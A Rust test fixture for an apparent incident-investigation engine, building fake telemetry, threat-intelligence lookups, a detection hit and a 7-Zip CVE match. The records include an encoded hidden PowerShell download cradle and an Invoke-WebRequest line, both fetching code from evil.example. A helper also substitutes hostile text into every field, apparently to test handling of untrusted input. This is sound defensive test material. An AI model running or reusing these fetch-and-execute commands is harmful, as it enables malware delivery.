//! What an investigation may bring: evidence of every sort, with its content in the store, as the engine would keep it.

#![allow(dead_code, clippy::unwrap_used, reason = "each user takes what it needs, and a test that cannot go on stops")]

use std::cell::Cell;
use std::net::IpAddr;

use domain::alert::{Hash, Signature};
use domain::attack::Technique;
use domain::detection::{Field, Hit, Level, LogSource, RuleRef, Status};
use domain::endpoint::Os;
use domain::evidence::{Answer, Inquiry, Looked, Origin as Seen, Outcome, Search, Summary, Sweep, SweepHit, Window};
use domain::incident::Command;
use domain::ioc::{self, Engines, Gap, Ioc, Known, ListBasis, ListHit, Opinion, Pap, Why};
use domain::telemetry::{Direction, FileChange, Hashes, Network, Parent, Process, Record, What};
use domain::vulnerability::{
    Basis, Bound, Doubt, Epss, Kev, Match, Origin, Patch, Published, Range, Score, Software, Source, Sure, Title,
};
use domain::{AgentId, IncidentId, TenantId, Timestamp, Untrusted};
use engine::Engine;
use jiff::SignedDuration;
use jiff::civil::Date;
use serde::Serialize;
use store::{Piece, Scope};

/// What the foreign texts say: what is plausible, or one hostile text after the other in its place.
pub struct Words<'a> {
    hostile: &'a [String],
    used: Cell<usize>,
}

impl<'a> Words<'a> {
    pub fn plain() -> Self {
        Self::hostile(&[])
    }

    pub fn hostile(hostile: &'a [String]) -> Self {
        Self { hostile, used: Cell::new(0) }
    }

    fn say(&self, plain: &str) -> Untrusted {
        let used = self.used.replace(self.used.get() + 1);
        Untrusted::new(self.hostile.get(used % self.hostile.len().max(1)).map_or(plain, String::as_str))
    }

    fn maybe(&self, plain: &str) -> Option<Untrusted> {
        Some(self.say(plain))
    }
}

/// Investigates one incident: everything is found, but the sweep, which a search of fails, and one inquiry that cannot be put.
pub async fn gather(engine: &Engine, tenant: &TenantId, incident: IncidentId, now: Timestamp, words: &Words<'_>) {
    let state = engine.store().incident(&Scope::All, incident).await.unwrap().unwrap();
    let alert = state.alerts.first().expect("an alert");
    let (agent, host) = (&alert.endpoint.agent, &alert.endpoint.name);
    let gatherer = Gatherer { engine, tenant, incident, now, words };
    let records = records(agent, host, alert.detected_at, alert.storyline.as_ref(), words);
    let n = |n: usize| u32::try_from(n).unwrap();
    let found = |summary| Outcome::Found(summary);
    let events = Inquiry::Events { alert: alert.id.clone() };
    gatherer.keep(events, found(Summary::Events { records: n(records.len()), cut: false }), &records).await;
    let software = software(words);
    let summary = Summary::Software { programs: n(software.len()), cut: false };
    gatherer.keep(Inquiry::Software { agent: agent.clone() }, found(summary), &software).await;
    let hits = vec![hit(words)];
    gatherer.keep(Inquiry::Detections, found(Summary::Detections { rules: 1204, matched: 1 }), &hits).await;
    let looked = looked(agent, now, words);
    let summary = Summary::Indicators { looked_up: n(looked.len()), bad: 1, unanswered: 1 };
    gatherer.keep(Inquiry::Indicators, found(summary), &looked).await;
    let sweep = sweep(now, words);
    let summary = Summary::Sweep { looked_for: 2, hits: 1, elsewhere: 1, agents_online: 180, agents_total: 214 };
    gatherer.keep(Inquiry::Sweep, found(summary), &sweep).await;
    let matches = vec![matched(words)];
    let summary = Summary::Vulnerabilities { programs: 2, matches: 1, exploited: 1 };
    gatherer.keep(Inquiry::Vulnerabilities { agent: agent.clone() }, found(summary), &matches).await;
    let elsewhere = Inquiry::Software { agent: AgentId::new("agent-elsewhere").unwrap() };
    let why = words.say("the console at console.example did not answer in time");
    gatherer.say(elsewhere, Outcome::CouldNotAsk { why }, None).await;
}

/// Only records, in place of those that were found before.
pub async fn keep_records(
    engine: &Engine,
    tenant: &TenantId,
    incident: IncidentId,
    now: Timestamp,
    records: &[Record],
) {
    let state = engine.store().incident(&Scope::All, incident).await.unwrap().unwrap();
    let inquiry = Inquiry::Events { alert: state.alerts.first().expect("an alert").id.clone() };
    let outcome = Outcome::Found(Summary::Events { records: u32::try_from(records.len()).unwrap(), cut: false });
    Gatherer { engine, tenant, incident, now, words: &Words::plain() }.keep(inquiry, outcome, &records).await;
}

struct Gatherer<'a> {
    engine: &'a Engine,
    tenant: &'a TenantId,
    incident: IncidentId,
    now: Timestamp,
    words: &'a Words<'a>,
}

impl Gatherer<'_> {
    async fn keep(&self, inquiry: Inquiry, outcome: Outcome, value: &impl Serialize) {
        let piece = Piece::new(&serde_json::to_string(value).unwrap());
        self.say(inquiry, outcome, Some(piece)).await;
    }

    async fn say(&self, inquiry: Inquiry, outcome: Outcome, piece: Option<Piece>) {
        let answer = Answer {
            inquiry,
            source: "SentinelOne /threats/{id}/explore/events".into(),
            query: self.words.say("agentUuid = \"7d1f\" AND eventTime > 1764000000000"),
            window: Some(Window { from: self.now - SignedDuration::from_hours(2), to: self.now }),
            obtained_at: self.now,
            outcome,
            findings: piece.as_ref().map(|p| p.content.clone()),
            raw: piece.as_ref().map(|p| p.content.clone()),
        };
        if let Some(piece) = piece {
            let mut work = self.engine.store().begin(self.tenant).await.unwrap();
            work.keep_content(piece);
            work.commit().await.unwrap();
        }
        let command = Command::RecordAnswerTo { answer: Box::new(answer) };
        self.engine.execute(self.tenant, self.incident, command, self.now).await.unwrap();
    }
}

/// A document starts a hidden PowerShell, which fetches and writes a program; beside it, ordinary life.
pub fn records(
    agent: &AgentId,
    host: &Untrusted,
    at: Timestamp,
    storyline: Option<&Untrusted>,
    words: &Words<'_>,
) -> Vec<Record> {
    let s = SignedDuration::from_secs;
    let process = |key: &str, parent: Option<&str>, pid: u32, name: &str, line: &str, from: i64| Process {
        key: Some(Untrusted::new(key)),
        parent: parent.map(|key| Parent { key: Some(Untrusted::new(key)), ..Parent::default() }),
        pid: Some(pid),
        name: words.maybe(name),
        image: words.maybe(&format!("C:\\Windows\\System32\\{name}")),
        command_line: words.maybe(line),
        user: words.maybe("CORP\\h.tanaka"),
        started_at: Some(at - s(from)),
        signature: Signature::Valid { publisher: words.maybe("Microsoft Windows") },
        ..Process::default()
    };
    let explorer = process("p-1", None, 4120, "explorer.exe", "C:\\Windows\\explorer.exe", 9000);
    let excel = process("p-2", Some("p-1"), 8810, "EXCEL.EXE", "EXCEL.EXE \"請求書_2026年11月分(最終版).xlsm\"", 3000);
    // IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')
    let encoded = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALwBhACcAKQA=";
    let shell = format!("powershell.exe -nop -w hidden -enc {encoded}");
    let shell = process("p-3", Some("p-2"), 9012, "powershell.exe", &shell, 120);
    let editor = process("p-4", Some("p-1"), 9020, "notepad.exe", "notepad.exe C:\\Users\\h.tanaka\\memo.txt", 2000);
    let record = |n: u32, ago: i64, process: &Process, story: bool, what| Record {
        id: Untrusted::new(&format!("r-{n}")),
        at: Some(at - s(ago)),
        agent: agent.clone(),
        host: host.clone(),
        os: Os::Windows,
        process: process.clone(),
        storyline: storyline.filter(|_| story).cloned(),
        what,
    };
    let evil: IpAddr = "203.0.113.77".parse().unwrap();
    let network = Network {
        direction: Direction::Outgoing,
        protocol: None,
        source: None,
        source_port: None,
        destination: Some(evil),
        destination_port: Some(443),
        succeeded: Some(true),
    };
    let written = What::File {
        change: FileChange::Created,
        path: words.say("C:\\Users\\h.tanaka\\AppData\\Local\\Temp\\stage2.exe"),
        old_path: None,
        size_bytes: Some(4096),
        hashes: Hashes::default(),
    };
    let mut all = vec![
        record(1, 3000, &explorer, false, What::ProcessStarted(Box::new(excel.clone()))),
        record(2, 2000, &explorer, false, What::ProcessStarted(Box::new(editor))),
        record(3, 120, &excel, true, What::ProcessStarted(Box::new(shell.clone()))),
        record(4, 110, &shell, true, What::Dns { name: words.say("evil.example"), answers: vec![] }),
        record(5, 100, &shell, true, What::Network(network)),
        record(6, 90, &shell, true, written),
        record(7, 80, &shell, true, What::Http { method: None, url: words.say("http://evil.example/a") }),
    ];
    let undated = What::Script { content: words.say("Invoke-WebRequest http://evil.example/b") };
    all.push(Record { at: None, ..record(8, 0, &shell, true, undated) });
    all
}

fn software(words: &Words<'_>) -> Vec<Software> {
    let one = |product: &str, version: &str| Software {
        product: words.say(product),
        publisher: words.maybe("Igor Pavlov"),
        version: words.maybe(version),
        origin: Origin::Maker,
    };
    vec![one("7-Zip 19.00 (x64)", "19.00"), one("Sakura Editor 2.4.2", "2.4.2")]
}

fn looked(agent: &AgentId, now: Timestamp, words: &Words<'_>) -> Vec<Looked> {
    let answer = |ioc: &Ioc, outcome| ioc::Answer {
        source: ioc::Source::VirusTotal,
        ioc: ioc.clone(),
        pap: Pap::Amber,
        asked_at: now,
        outcome,
        raw: None,
    };
    let hash = Ioc::Hash(Hash::parse(&format!("{:064x}", 0x00c0_ffee)).unwrap());
    let engines = Engines { malicious: 42, undetected: 20, ..Engines::default() };
    let known = Known {
        described_as: words.maybe("Win32 EXE"),
        labels: vec![words.say("trojan.agenttesla")],
        ..Known::of(Opinion::Engines(engines))
    };
    let domain = Ioc::Domain("evil.example".into());
    let list = ListHit {
        list: "URLhaus".into(),
        warning: false,
        label: words.maybe("AgentTesla"),
        basis: ListBasis::Host,
        first_seen: Some(now),
        reference: words.maybe("https://list.example/1"),
        imported_at: now,
    };
    let path = Ioc::Path(words.say("C:\\Users\\h.tanaka\\AppData\\Local\\Temp\\stage2.exe").for_matching().to_owned());
    let origins = || vec![Seen::Record(words.say("r-4"), agent.clone())];
    let gap = Gap { why: Why::QuotaUsed, detail: None, retry_after_s: Some(60) };
    vec![
        Looked {
            answers: vec![answer(&hash, ioc::Outcome::Known(Box::new(known)))],
            ioc: hash,
            pap: Pap::Amber,
            origins: origins(),
            lists: vec![list],
        },
        Looked {
            answers: vec![answer(&domain, ioc::Outcome::CouldNotAsk(gap))],
            ioc: domain,
            pap: Pap::Amber,
            origins: origins(),
            lists: vec![],
        },
        Looked {
            answers: vec![answer(&path, ioc::Outcome::NotKnown)],
            ioc: path,
            pap: Pap::Red,
            origins: origins(),
            lists: vec![],
        },
    ]
}

fn sweep(now: Timestamp, words: &Words<'_>) -> Sweep {
    let domain = Ioc::Domain("evil.example".into());
    let hit = SweepHit { ioc: domain.clone(), host: words.say("PC-0442"), count: 3, first: Some(now), last: Some(now) };
    let search = |iocs, hits, failed| Search { iocs, query: "DnsRequest contains …".into(), hits, failed };
    let address = Ioc::Ip("203.0.113.77".parse().unwrap());
    Sweep {
        window: Window { from: now - SignedDuration::from_hours(24 * 14), to: now },
        agents_online: 180,
        agents_total: 214,
        searches: vec![
            search(vec![domain], vec![hit], None),
            search(vec![address], vec![], words.maybe("the query was refused: too many at once")),
        ],
    }
}

fn hit(words: &Words<'_>) -> Hit {
    let rule = RuleRef {
        id: words.say("b9d9cc83-380b-4ba3-8d8f-60c0e7e2930c"),
        title: words.say("Office application starts an encoded PowerShell"),
        level: Level::High,
        status: Status::Test,
        author: words.maybe("Detection Rule Author"),
        licence: words.maybe("DRL 1.1"),
        techniques: vec![Technique::sub(1059, 1)],
        attack_version: "18.1".into(),
        source: LogSource { product: Some("windows".into()), category: Some("process_creation".into()), service: None },
        file: words.say("windows/process_creation/office_powershell.yml"),
        file_sha256: "9f3c".repeat(16),
    };
    let field = Field { name: words.say("CommandLine"), value: words.say("powershell.exe -enc SQBFAFgA") };
    Hit { rule, records: vec![words.say("r-3")], count: 1, fields: vec![field] }
}

fn matched(words: &Words<'_>) -> Match {
    let date = |text: &str| -> Date { text.parse().unwrap() };
    Match {
        cve: "CVE-2024-11477".into(),
        title: Some(Title {
            ja: words.maybe("7-Zip の整数アンダーフロー"),
            en: words.maybe("Integer underflow in 7-Zip"),
        }),
        published: vec![Published { by: Source::Nvd, on: date("2024-11-22"), id: None }],
        cvss: vec![Score {
            version: "3.1".into(),
            vector: "CVSS:3.1/AV:L/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H".into(),
            score: 7.8,
            by: words.say("nvd@nist.gov"),
            recomputed: Some(7.8),
        }],
        epss: Some(Epss { probability: 0.031, percentile: 0.87 }),
        kev: Some(Kev { added: date("2025-02-06"), due: None, ransomware: true }),
        affected: vec![Range {
            from: None,
            to: Some(Bound { version: words.say("24.07"), included: false }),
            words: None,
        }],
        product: words.say("7-Zip 19.00 (x64)"),
        installed: words.maybe("19.00"),
        basis: Basis::CpeRange,
        sure: Sure::Likely,
        doubts: vec![Doubt::MakerUnknown],
        patch: Patch::Released { fixed: words.say("24.07").for_matching().to_owned(), on: Some(date("2024-06-19")) },
        end_of_life: None,
        data_as_of: Some(date("2026-11-20")),
    }
}
